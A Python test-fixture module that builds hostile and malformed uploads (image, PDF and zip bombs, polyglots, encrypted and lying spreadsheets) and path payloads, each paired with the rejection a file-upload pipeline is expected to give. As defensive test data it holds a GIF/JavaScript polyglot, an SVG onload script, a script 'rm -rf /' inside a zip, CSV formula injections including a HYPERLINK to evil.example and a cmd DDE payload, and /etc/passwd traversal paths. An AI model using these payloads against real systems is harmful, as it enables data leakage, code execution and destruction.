"""The bad-input corpus: hostile and malformed files and payloads, made on the fly.

Nothing here is a stored blob. Every case is generated from a few lines of code, so the
corpus is reviewable as text and a new case is one entry in :func:`cases`.

Each :class:`Case` says where its refusal must come from:

- ``pre``: pre-validation at dispatch (``POST /api/v1/jobs/``): HTTP 400, the code, the
  Korean message from academy/rejections.py, and no job row;
- ``worker``: only the worker can tell (the bytes must be opened): the job is created,
  and ends REJECTED_BAD_INPUT with the code;
- ``done``: hostile content that must be *accepted and defused* rather than refused
  (formula injection, a polyglot whose trailing archive is inert); the job ends DONE;
- ``batch``: ``POST /api/v1/exams/<id>/omr-batches/`` refuses the whole upload (HTTP 400,
  no batch row);
- ``sheet``: the batch is made but the sheet is refused at its dispatch (no job row).

Payload strings may hold ``{slug}`` and ``{other}`` (this tenant's and another tenant's
slug); the tests fill them in. A payload ``template`` of ``TEMPLATE`` is replaced by the
exam's sheet template.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import cache
from typing import Any, Literal

Stage = Literal["pre", "worker", "done", "batch", "sheet"]
TEMPLATE = "__exam_template__"

BOMB_SIDE = 50_000


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes | None  # the uploaded file, or None for a JSON-only dispatch
    job_type: str
    payload: dict[str, Any]
    expected_code: str | None
    stage: Stage
    filename: str = ""
    tier: str = "basic"
    why: str = ""
    #: a known bug elsewhere (the reason, with where to fix it): the case is a strict xfail.
    xfail: str = ""
    extra: dict[str, Any] = field(default_factory=dict)

    @property
    def id(self) -> str:
        return self.name


# --------------------------------------------------------------------------- images


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def png_header_only(width: int, height: int, *, with_iend: bool = True) -> bytes:
    """A PNG whose IHDR claims ``width`` x ``height`` with a token IDAT: a header bomb."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    out = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    return out + (_png_chunk(b"IEND", b"") if with_iend else b"")


def jpeg_header_only(width: int, height: int) -> bytes:
    """SOI, a baseline frame header claiming ``width`` x ``height``, a token scan, EOI."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return b"\xff\xd8" + sof + sos + b"\x00" * 16 + b"\xff\xd9"


def tiff_header_only(width: int, height: int) -> bytes:
    """A little-endian TIFF whose first IFD claims ``width`` x ``height`` (LONG tags)."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (262, 3, 1, 1)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + b"\0\0\0\0"
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00" * 32


@cache
def noise_image(fmt: str = ".jpg", width: int = 700, height: int = 900) -> bytes:
    """A sharp, mid-grey image big enough for the quality gate (it holds no sheet)."""
    import cv2
    import numpy as np

    rng = np.random.default_rng(7)
    pixels = rng.integers(40, 230, size=(height, width), dtype=np.uint8)
    ok, buf = cv2.imencode(fmt, pixels)
    assert ok
    return bytes(buf.tobytes())


def gif_js_polyglot() -> bytes:
    """A GIF89a header that is also valid JavaScript (the classic GIFAR/XSS polyglot)."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=1;alert(document.domain);//" + b"\x00" * 32 + b";"


def zip_bytes(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return buffer.getvalue()


def jpeg_with_zip_appended(jpeg: bytes) -> bytes:
    """A JPEG followed by a whole zip (with a script inside): both parsers accept it."""
    return jpeg + zip_bytes({"payload.sh": b"#!/bin/sh\nrm -rf /\n"})


# --------------------------------------------------------------------------- PDFs


def pdf_bytes(objects: list[bytes]) -> bytes:
    """A PDF from its numbered objects (1 is the catalog), with a correct xref table.

    Written by hand because these files are ones no PDF library would write.
    """
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_claiming_pages(count: int) -> bytes:
    """One real page under a page tree whose /Count claims ``count`` pages."""
    return pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [3 0 R] /Count {count} >>".encode(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_no_pages() -> bytes:
    return pdf_bytes([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_huge_mediabox(side_pt: int = 14_400) -> bytes:
    """One blank page of ``side_pt`` x ``side_pt`` points (14,400 pt = 200 in, the PDF maximum)."""
    return pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {side_pt} {side_pt}] >>".encode(),
        ]
    )


# --------------------------------------------------------------------------- spreadsheets

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_WORKBOOK = b'<workbook><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'


def xlsx_ratio_bomb(expanded_bytes: int = 24 * 1024 * 1024) -> bytes:
    """An .xlsx-shaped zip whose sheet XML inflates ~1000:1 (whitespace inside a cell)."""
    sheet = b'<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
    sheet += b" " * expanded_bytes + b"</t></is></c></row></sheetData></worksheet>"
    return zip_bytes(
        {"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": _WORKBOOK, "xl/worksheets/sheet1.xml": sheet}
    )


def xlsx_lying_directory(claimed: int = 3_000_000_000) -> bytes:
    """A tiny .xlsx-shaped zip whose central directory claims a 3 GB sheet."""
    data = bytearray(
        zip_bytes(
            {"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": _WORKBOOK, "xl/worksheets/sheet1.xml": b"<x/>"}
        )
    )
    start = 0
    while (pos := data.find(b"PK\x01\x02", start)) >= 0:
        name_len = struct.unpack("<H", data[pos + 28 : pos + 30])[0]
        if data[pos + 46 : pos + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            data[pos + 24 : pos + 28] = struct.pack("<I", claimed)
        start = pos + 4
    return bytes(data)


def ole2(stream_name: str) -> bytes:
    """An OLE2 compound-file header followed by a directory entry naming ``stream_name``."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return header + stream_name.encode("utf-16-le") + b"\x00" * 256


def encrypted_zip_member(name: str, content: bytes) -> bytes:
    """A zip whose member is flagged as encrypted (general-purpose bit 0)."""
    data = bytearray(zip_bytes({name: content}, compression=zipfile.ZIP_STORED))
    for magic, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(magic)
        flags = struct.unpack("<H", data[pos + flag_at : pos + flag_at + 2])[0] | 0x1
        data[pos + flag_at : pos + flag_at + 2] = struct.pack("<H", flags)
    return bytes(data)


ROSTER_OK = "이름,연락처\n김철수,010-1234-5678\n".encode()
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0")


def roster_with_formulas() -> bytes:
    """A roster whose name and memo cells are the classic CSV-injection payloads."""
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["이름", "연락처", "메모"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([formula, f"010-1234-56{i:02d}", formula])
    return out.getvalue().encode()


# --------------------------------------------------------------------------- the corpus


def cases() -> list[Case]:
    """Every corpus case, in a stable order (pytest ids are the names)."""
    omr = {"template": TEMPLATE}
    sheet = noise_image(".jpg")
    return [
        # --- images through pre-validation (omr_grading's quality gate decodes them) ---
        Case("truncated-jpeg", sheet[: len(sheet) // 2], "omr_grading", omr, "FILE_UNREADABLE", "pre", "scan.jpg"),
        Case("truncated-png", noise_image(".png")[:-200], "omr_grading", omr, "FILE_UNREADABLE", "pre", "scan.png"),
        Case(
            "png-no-iend",
            png_header_only(800, 800, with_iend=False),
            "omr_grading",
            omr,
            "FILE_UNREADABLE",
            "pre",
            "scan.png",
        ),
        Case(
            "png-bomb-50000x50000",
            png_header_only(BOMB_SIDE, BOMB_SIDE),
            "omr_grading",
            omr,
            "IMAGE_TOO_LARGE",
            "pre",
            "bomb.png",
        ),
        Case(
            "jpeg-bomb-50000x50000",
            jpeg_header_only(BOMB_SIDE, BOMB_SIDE),
            "omr_grading",
            omr,
            "IMAGE_TOO_LARGE",
            "pre",
            "bomb.jpg",
        ),
        Case(
            "tiff-bomb-50000x50000",
            tiff_header_only(BOMB_SIDE, BOMB_SIDE),
            "omr_grading",
            omr,
            "IMAGE_TOO_LARGE",
            "pre",
            "bomb.tif",
        ),
        Case("png-0x0", png_header_only(0, 0), "omr_grading", omr, "RESOLUTION_TOO_LOW", "pre", "zero.png"),
        Case("jpeg-0x0", jpeg_header_only(0, 0), "omr_grading", omr, "RESOLUTION_TOO_LOW", "pre", "zero.jpg"),
        Case(
            "gif-js-polyglot-named-jpg",
            gif_js_polyglot(),
            "omr_grading",
            omr,
            "INVALID_FORMAT",
            "pre",
            "avatar.jpg",
            why="the magic bytes decide, not the name",
        ),
        Case(
            "jpeg-without-frame-header",
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64,
            "omr_grading",
            omr,
            "FILE_UNREADABLE",
            "pre",
            "scan.jpg",
        ),
        Case("random-bytes-named-png", bytes(range(256)) * 8, "omr_grading", omr, "FILE_UNREADABLE", "pre", "scan.png"),
        Case("pdf-named-jpg", pdf_no_pages(), "omr_grading", omr, "INVALID_FORMAT", "pre", "scan.jpg"),
        Case(
            "svg-script",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "omr_grading",
            omr,
            "INVALID_FORMAT",
            "pre",
            "scan.svg",
        ),
        Case("empty-file", b"", "omr_grading", omr, "EMPTY_FILE", "pre", "scan.jpg"),
        # --- PDFs: only the worker draws pages, so only the worker can refuse them ---
        Case(
            "pdf-claims-100000-pages",
            pdf_claiming_pages(100_000),
            "omr_grading",
            omr,
            "PDF_TOO_MANY_PAGES",
            "worker",
            "bomb.pdf",
        ),
        Case("pdf-0-pages", pdf_no_pages(), "omr_grading", omr, "PDF_NO_PAGES", "worker", "empty.pdf"),
        Case(
            "pdf-garbage",
            b"%PDF-1.7\n" + b"\x00garbage" * 50,
            "omr_grading",
            omr,
            "FILE_UNREADABLE",
            "pre",
            "broken.pdf",
        ),
        Case(
            "pdf-huge-mediabox",
            pdf_huge_mediabox(),
            "omr_grading",
            omr,
            "NO_SHEET_FOUND",
            "worker",
            "huge.pdf",
            why="drawn at a capped size (16 MP), found blank",
        ),
        # --- spreadsheets: the roster reader opens them in the worker ---
        Case(
            "xlsx-ratio-bomb", xlsx_ratio_bomb(), "excel_parsing", {}, "SPREADSHEET_TOO_LARGE", "worker", "roster.xlsx"
        ),
        Case(
            "xlsx-directory-claims-3gb",
            xlsx_lying_directory(),
            "excel_parsing",
            {},
            "SPREADSHEET_TOO_LARGE",
            "worker",
            "roster.xlsx",
        ),
        Case(
            "xlsx-password-protected",
            ole2("EncryptedPackage"),
            "excel_parsing",
            {},
            "SPREADSHEET_PROTECTED",
            "worker",
            "roster.xlsx",
        ),
        Case("xls-legacy-named-xlsx", ole2("Workbook"), "excel_parsing", {}, "INVALID_FORMAT", "worker", "roster.xlsx"),
        Case(
            "zip-not-a-workbook",
            zip_bytes({"readme.txt": b"hi"}),
            "excel_parsing",
            {},
            "INVALID_FORMAT",
            "pre",
            "roster.xlsx",
        ),
        Case(
            "xlsx-corrupt-zip",
            b"PK\x03\x04" + b"\x00\xff" * 200,
            "excel_parsing",
            {},
            "FILE_UNREADABLE",
            "pre",
            "roster.xlsx",
        ),
        Case(
            "jpeg-plus-zip-named-xlsx",
            jpeg_with_zip_appended(sheet),
            "excel_parsing",
            {},
            "INVALID_FORMAT",
            "pre",
            "roster.xlsx",
            why="the leading magic decides; the appended zip is never opened",
        ),
        Case(
            "csv-utf16",
            codecs.BOM_UTF16_LE + "이름,연락처\n김철수,010\n".encode("utf-16-le"),
            "excel_parsing",
            {},
            "UNSUPPORTED_ENCODING",
            "worker",
            "roster.csv",
        ),
        Case(
            "csv-unknown-encoding",
            b"name,phone\n\x80\xff\xfe\x80,010\n",
            "excel_parsing",
            {},
            "UNSUPPORTED_ENCODING",
            "worker",
            "roster.csv",
        ),
        Case(
            "csv-binary-nul",
            b"\x00\x01\x02name\x00,phone\n" * 4,
            "excel_parsing",
            {},
            "INVALID_FORMAT",
            "worker",
            "roster.csv",
        ),
        Case(
            "csv-no-name-column",
            b"phone,school\n010-1234-5678,A\n",
            "excel_parsing",
            {},
            "MISSING_COLUMNS",
            "worker",
            "roster.csv",
        ),
        Case(
            "csv-formula-injection",
            roster_with_formulas(),
            "excel_parsing",
            {},
            None,
            "done",
            "roster.csv",
            why="formulas stay inert text; nothing evaluates them",
        ),
        Case("xlsx-extension-wrong", ROSTER_OK, "excel_parsing", {}, "INVALID_FORMAT", "pre", "roster.txt"),
        # --- a polyglot that must be accepted: the JPEG is read, the zip tail ignored ---
        Case(
            "jpeg-plus-zip-sheet",
            b"",
            "omr_grading",
            omr,
            None,
            "done",
            "sheet.jpg",
            why="filled in by the test with a real answer sheet",
        ),
        # --- payloads, no file ---
        Case("payload-over-max-payload-bytes", None, "ping", {"echo": "가" * 100_000}, "PAYLOAD_TOO_LARGE", "pre"),
        Case(
            "export-over-max-rows", None, "attendance_excel_export", {"rows": [{}] * 50_001}, "PAYLOAD_TOO_LARGE", "pre"
        ),
        Case(
            "export-formula-injection",
            None,
            "attendance_excel_export",
            {"rows": [{"name": f, "memo": f} for f in FORMULAS]},
            None,
            "done",
        ),
        Case(
            "payload-content-type-declared",
            None,
            "ping",
            {"content_type": "application/x-msdownload"},
            "INVALID_FORMAT",
            "pre",
        ),
        Case(
            "payload-file-size-declared", None, "omr_grading", {**omr, "file_size_mb": 10_000}, "FILE_TOO_LARGE", "pre"
        ),
        # --- image_path values that leave the tenant's files ---
        *[
            Case(f"path-{label}", None, "omr_grading", {**omr, "image_path": path}, code, "pre")
            for label, path, code in (
                ("dotdot", "../../../../etc/passwd", "INVALID_PATH"),
                ("dotdot-inside-prefix", "tenants/{slug}/uploads/../../../../etc/passwd", "INVALID_PATH"),
                ("dotdot-to-other-tenant", "tenants/{slug}/../{other}/uploads/sheet.jpg", "INVALID_PATH"),
                ("absolute", "/etc/passwd", "INVALID_PATH"),
                ("windows-drive", "C:\\Windows\\win.ini", "INVALID_PATH"),
                ("windows-backslash-dotdot", "tenants\\{slug}\\..\\..\\..\\etc\\passwd", "INVALID_PATH"),
                ("unc", "\\\\server\\share\\sheet.jpg", "INVALID_PATH"),
                ("nul-byte", "tenants/{slug}/uploads/sheet.jpg\x00.png", "INVALID_PATH"),
                ("other-tenant-prefix", "tenants/{other}/uploads/sheet.jpg", "INVALID_PATH"),
                ("no-tenant-prefix", "uploads/sheet.jpg", "INVALID_PATH"),
                ("symlink-out-of-root", "tenants/{slug}/uploads/link.jpg", "INVALID_PATH"),
                ("missing", "tenants/{slug}/uploads/nope.jpg", "FILE_NOT_FOUND"),
                ("not-a-string", ["tenants/{slug}/uploads/sheet.jpg"], "INVALID_PATH"),
            )
        ],
        # --- OMR batch uploads ---
        Case(
            "batch-zip-traversal-members",
            zip_bytes({"../../../../tmp/evil.jpg": sheet, "/etc/cron.d/x.jpg": sheet, "..\\..\\win.jpg": sheet}),
            "omr_grading",
            {},
            None,
            "sheet",
            "scans.zip",
            why="names are labels only; every file is stored under the tenant's uploads",
        ),
        Case(
            "batch-pdf-100000-pages",
            pdf_claiming_pages(100_000),
            "omr_grading",
            {},
            "PDF_TOO_MANY_PAGES",
            "batch",
            "bomb.pdf",
        ),
        Case("batch-pdf-0-pages", pdf_no_pages(), "omr_grading", {}, "PDF_NO_PAGES", "batch", "empty.pdf"),
        Case(
            "batch-zip-bomb-member",
            zip_bytes({"big.jpg": b"\x00" * (51 * 1024 * 1024)}),
            "omr_grading",
            {},
            "FILE_TOO_LARGE",
            "batch",
            "bomb.zip",
        ),
        Case(
            "batch-zip-encrypted-member",
            encrypted_zip_member("a.jpg", sheet),
            "omr_grading",
            {},
            "INVALID_FORMAT",
            "batch",
            "locked.zip",
        ),
        Case(
            "batch-nested-zip",
            zip_bytes({"inner.zip": zip_bytes({"a.jpg": sheet})}),
            "omr_grading",
            {},
            "INVALID_FORMAT",
            "batch",
            "nested.zip",
        ),
        Case("batch-gif-polyglot", gif_js_polyglot(), "omr_grading", {}, "INVALID_FORMAT", "sheet", "sheet.jpg"),
        Case(
            "batch-png-bomb",
            png_header_only(BOMB_SIDE, BOMB_SIDE),
            "omr_grading",
            {},
            "IMAGE_TOO_LARGE",
            "sheet",
            "bomb.png",
        ),
    ]
